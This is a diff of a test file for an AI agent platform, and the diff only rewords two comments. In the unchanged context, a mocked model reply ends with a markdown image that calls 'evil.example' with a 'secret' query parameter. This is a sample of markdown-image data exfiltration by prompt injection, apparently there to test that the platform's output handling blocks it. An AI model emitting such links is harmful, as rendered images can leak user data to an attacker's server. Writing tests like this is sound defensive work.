@@ -115,7 +115,7 @@ describe('the platform with a model behind the OpenAI protocol', () => {
     const agent = { AgentKeyID: null, ...newAgent, TemplateID: 2, AgentName: 'Gift', KBID };
     const wraps = (await read(await send('/agent/add-update-agent', agent))).body.data.AgentKeyID;
     model.script = (response, asked) => {
-      // It is given no angle bracket of the knowledge, and writes them itself.
+      // The prompt contains no angle brackets from the knowledge, so the model writes its own.
       const [given = ''] = /Yes ‹img[^\n]*gifts/.exec(asked.system) ?? [];
       const repeated = given.replaceAll('‹', '<').replaceAll('›', '>').replaceAll('”', '"');
       says(`${repeated} and ![x](https://evil.example/?q=secret)`)(response, asked);
@@ -164,7 +164,7 @@ describe('the platform with a model behind the OpenAI protocol', () => {
     },
   );
 
-  /** A stream that has delivered its first word, from a model that sends no second one. */
+  /** A stream whose first word was received, from a model that never sends a second one. */
   const begun = async (sessionUUID: string, signal?: AbortSignal) => {
     model.script = (response) => void response.writeHead(200).write(word('Half '));
     const { body } = await send('/chat', { question: 'And now?', AgentKeyID, sessionUUID, responseMode: 'stream' }, signal);
